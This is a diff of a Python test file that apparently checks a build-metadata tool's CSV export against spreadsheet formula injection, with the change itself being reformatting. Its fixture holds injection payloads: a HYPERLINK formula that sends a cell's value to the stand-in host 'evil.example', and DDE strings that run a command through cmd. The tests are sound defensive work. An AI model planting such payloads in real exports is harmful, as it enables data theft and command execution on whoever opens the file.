@@ -13,7 +13,7 @@ from venvbuild.query import output
 from venvbuild.store.local import LocalStore
 
 FORMULAS = {
-    "build_url": "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")",
+    "build_url": '=HYPERLINK("http://evil.example/?"&A1,"details")',
     "git_commit": "=cmd|' /C calc'!A0",
     "platform": "+1+cmd|' /C calc'!A0",
     "python_home": "-2+3",
@@ -24,8 +24,16 @@ FORMULAS = {
 @pytest.fixture
 def store(tmp_path, capsys):
     store = LocalStore(tmp_path / "store")
-    publish.publish(make_build_dir(tmp_path / "builds", "venv_20250101_100000", conflicts=["\tinjected", "\r=1+1"],
-                                   installed_packages=["six==1.0"], **FORMULAS), store)
+    publish.publish(
+        make_build_dir(
+            tmp_path / "builds",
+            "venv_20250101_100000",
+            conflicts=["\tinjected", "\r=1+1"],
+            installed_packages=["six==1.0"],
+            **FORMULAS,
+        ),
+        store,
+    )
     capsys.readouterr()
     return tmp_path / "store"
 
@@ -36,8 +44,15 @@ def read(out):
 
 def test_sql_csv_defuses_formulas_in_free_text_fields(capsys, store):
     columns = ", ".join(FORMULAS)
-    code, out, err = run(capsys, "sql", f"SELECT {columns}, conflicts[1] AS tab, conflicts[2] AS cr, -7 AS n, "
-                         "archive_size, 'plain' AS t FROM venv_builds_metadata", "--csv", "--store", store)
+    code, out, err = run(
+        capsys,
+        "sql",
+        f"SELECT {columns}, conflicts[1] AS tab, conflicts[2] AS cr, -7 AS n, "
+        "archive_size, 'plain' AS t FROM venv_builds_metadata",
+        "--csv",
+        "--store",
+        store,
+    )
     assert code == 0, err
     rows = read(out)
     assert rows[0] == [*FORMULAS, "tab", "cr", "n", "archive_size", "t"]
@@ -45,7 +60,7 @@ def test_sql_csv_defuses_formulas_in_free_text_fields(capsys, store):
 
 
 def test_column_names_and_search_csv_go_through_the_same_guard(capsys, store):
-    code, out, _ = run(capsys, "sql", "SELECT 1 AS \"=1+1\"", "--csv", "--store", store)
+    code, out, _ = run(capsys, "sql", 'SELECT 1 AS "=1+1"', "--csv", "--store", store)
     assert code == 0 and read(out) == [["'=1+1"], ["1"]], "a column name is a cell as well"
     code, out, _ = run(capsys, "search", "six", "--csv", "--store", store)
     assert code == 0 and read(out)[1][4] == "six==1.0"
